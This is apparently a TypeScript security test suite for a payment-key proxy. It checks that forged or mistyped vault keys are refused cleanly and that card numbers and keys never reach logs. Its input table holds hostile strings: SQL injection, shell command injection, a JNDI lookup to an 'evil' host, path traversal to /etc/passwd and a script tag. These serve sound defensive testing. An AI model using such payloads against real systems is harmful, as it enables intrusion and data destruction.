import { generateVaultKey } from "@keybrake/core";
import { type FakeStripe, openFakeStripe } from "@keybrake/sandbox";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { expectRefusal, type Front, newKey, openFront, rowOf } from "../http/front.ts";
import { requestText, sendRaw } from "../http/raw-client.ts";
import { CANARY_SECRET } from "../support/crew.ts";
import { POSTGRES_URL } from "../support/empty-database.ts";

const FORM = "Content-Type: application/x-www-form-urlencoded";
/** Passes Luhn's check, so that a scanner for card numbers would find it. */
const CARD = "4000056655665556";

let fake: FakeStripe;
let front: Front;
let vaultKey: string;

beforeAll(async () => {
  fake = await openFakeStripe({ secretKeys: [CANARY_SECRET] });
  front = await openFront(fake.url);
  ({ vaultKey } = await newKey(front));
}, 120_000);
afterAll(async () => {
  await front.close();
  await fake.close();
});

const get = (authorization: string) =>
  sendRaw(front.server.dataUrl, requestText("GET /v1/balance", [`Authorization: ${authorization}`]));
const basic = (text: string | Buffer) => `Basic ${Buffer.from(text).toString("base64")}`;

/** The same key with its last character, of its checksum, changed. */
function mistyped(key: string, index = -1): string {
  const at = key.length + index;
  const wrong = key[at] === "0" ? "1" : "0";
  return key.slice(0, at) + wrong + key.slice(at + 1);
}

async function expectUnknownCredential(authorization: string): Promise<void> {
  const { answers, text } = await get(authorization);
  expect(answers[0]?.status).toBe(401);
  expect(await expectRefusal(front, answers[0])).toMatch(/^vault_key_(?:invalid|missing)$/);
  expect(text).not.toMatch(/\bat .*\.(?:js|ts):\d+|Error:|syntax|SELECT|node_modules/);
}

describe("D11: a credential that is no vault key", () => {
  test("D11: every wrong character is found, wherever it stands", async () => {
    for (const index of [-1, -6, -7, -20, -38])
      await expectUnknownCredential(`Bearer ${mistyped(vaultKey, index)}`);
    expect((await get(`Bearer ${vaultKey}`)).answers[0]?.status).toBe(200);
  });

  test("D11: a right checksum is no key", async () => {
    await expectUnknownCredential(`Bearer ${generateVaultKey("attacker_agent")}`);
    await expectUnknownCredential(basic(`${generateVaultKey("attacker_agent")}:`));
  });

  // Counted by the database itself: the index by which keys are found is not touched by a wrong checksum.
  test.skipIf(POSTGRES_URL === undefined)("D11: a wrong checksum costs no look-up", async () => {
    const lookUps = async () => {
      const [row] = (await front.database?.query(
        "SELECT idx_scan::int AS scans FROM pg_stat_user_indexes WHERE indexrelname = 'vault_keys_key_hash_key'",
      )) ?? [undefined];
      return row?.["scans"] as number;
    };
    // The statistics are told late, so wait until those of earlier tests are all there.
    let before = -1;
    await vi.waitUntil(
      async () => {
        const last = before;
        before = await lookUps();
        return before === last;
      },
      { timeout: 20_000, interval: 4_000 },
    );
    for (let attempt = 0; attempt < 40; attempt++) {
      const key = mistyped(generateVaultKey("attacker_agent"), -1 - (attempt % 38));
      expect((await get(`Bearer ${key}`)).answers[0]?.status).toBe(401);
    }
    // One that does ask, so that a statistic that never moves cannot pass for proof.
    await expectUnknownCredential(`Bearer ${generateVaultKey("attacker_agent")}`);
    await vi.waitUntil(async () => (await lookUps()) > before, { timeout: 20_000, interval: 250 });
    expect(await lookUps()).toBe(before + 1);
  });

  test.each([
    "' OR 1=1 --",
    "'; DROP TABLE vault_keys; --",
    "vault_billing_' OR '1'='1",
    "vault_x_'||(SELECT pg_sleep(10))||'",
    "$(touch /tmp/owned)",
    "`id`",
    "$\u007bjndi:ldap://evil/x}",
    "{{7*7}}",
    "%s%s%s%n",
    "../../../etc/passwd",
    "undefined",
    "null",
    "NaN",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "0",
    "-1",
    "vault_",
    "vault__",
    `vault_a_${"0".repeat(38)}`,
    `vault_${"a".repeat(41)}_${"0".repeat(38)}`,
    `VAULT_A_${"0".repeat(38)}`,
    "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "<script>alert(1)</script>",
    "\\x00\\x00",
    "\\u0000",
    "%00",
    "*",
    ".",
    "=",
    "==",
  ])("D11: `%s`", async (text) => {
    await expectUnknownCredential(`Bearer ${text.replaceAll(" ", "")}`);
    await expectUnknownCredential(basic(text));
    await expectUnknownCredential(basic(`user:${text}`));
  });

  test("D11: 300 strings that nobody thought of, and bytes that are no text", async () => {
    const texts = fc.sample(fc.string({ unit: "binary", maxLength: 80 }), 150);
    const bytes = fc.sample(fc.uint8Array({ maxLength: 80 }), 150);
    for (const text of texts) await expectUnknownCredential(basic(`vault_${text}`));
    for (const some of bytes) await expectUnknownCredential(basic(Buffer.from(some)));
  }, 60_000);

  test("D11: one of a megabyte is refused before it is a request, one of 6 kB as a credential", async () => {
    const { answers } = await get(`Bearer ${"v".repeat(1_048_576)}`);
    for (const answer of answers) expect(answer.status).toBe(400);
    await expectUnknownCredential(`Bearer vault_${"a".repeat(6_000)}`);
    await expectUnknownCredential(basic(`vault_${"a".repeat(3_000)}`));
  });

  test("D11: none of it reached the vendor", () => {
    const lines = fake.requests.map(({ method, url }) => `${method} ${url}`);
    expect(new Set(lines)).toEqual(new Set(["GET /v1/balance"]));
    expect(lines).toHaveLength(1);
  });
});

describe("D12: what is refused unread is not written down", () => {
  const bodies = [
    `{"number":"${CARD}","cvc":"999",`,
    `{"card":{"number":${CARD}}`,
    `card[number]=${CARD}&card[number]=1`,
    `card[number]=${CARD}&%`,
    `{"value":"${CARD}"`,
  ];

  test("D12: a card number in a broken body, on both listeners", async () => {
    for (const body of bodies) {
      for (const type of [FORM, "Content-Type: application/json"]) {
        const agent = requestText(
          "POST /v1/payment_intents",
          [`Authorization: Bearer ${vaultKey}`, type],
          body,
        );
        const { answers, text } = await sendRaw(front.server.dataUrl, agent);
        await expectRefusal(front, answers[0]);
        expect(text).not.toContain(CARD);
        for (const target of ["/api/v1/secrets", "/api/v1/vault-keys", "/api/v1/sql"]) {
          const operator = requestText(
            `POST ${target}`,
            [`Authorization: Bearer ${front.server.adminToken}`, type],
            body,
          );
          const refused = await sendRaw(front.server.adminUrl, operator);
          expect(refused.answers[0]?.status).toBeGreaterThanOrEqual(400);
          expect(refused.text).not.toContain(CARD);
        }
      }
    }
    expect(front.server.output()).not.toContain(CARD);
    const rows: string[] = [];
    for await (const call of front.admin.calls.ndjson({})) rows.push(JSON.stringify(call));
    expect(rows.join("\n")).not.toContain(CARD);
  });
});

describe("a vault key in the wrong place", () => {
  test("is not kept in the audit log: not from the path, not from metadata, not from a label", async () => {
    const credential = `Authorization: Bearer ${vaultKey}`;
    const attempts = [
      requestText(`POST /v1/customers/${vaultKey}`, [credential, FORM], "name=x"),
      requestText(`GET /v1/transfers/${vaultKey}x/y/z`, [credential]),
      requestText(`GET http://${vaultKey}@evil/`, [credential]),
      requestText(
        "POST /v1/customers",
        [credential, FORM],
        `metadata[key]=${vaultKey}&metadata[agent_id]=${vaultKey}`,
      ),
      requestText("GET /v1/balance", [
        credential,
        `Keybrake-Run-Id: ${vaultKey}`,
        `Keybrake-Agent-Id: ${vaultKey}`,
      ]),
    ];
    for (const attempt of attempts) {
      const { answers } = await sendRaw(front.server.dataUrl, attempt);
      const row = await rowOf(front, answers[0]);
      expect(JSON.stringify(row)).not.toContain(vaultKey.slice(0, 40));
    }
    expect(front.server.output()).not.toContain(vaultKey.slice(0, 40));
  });
});
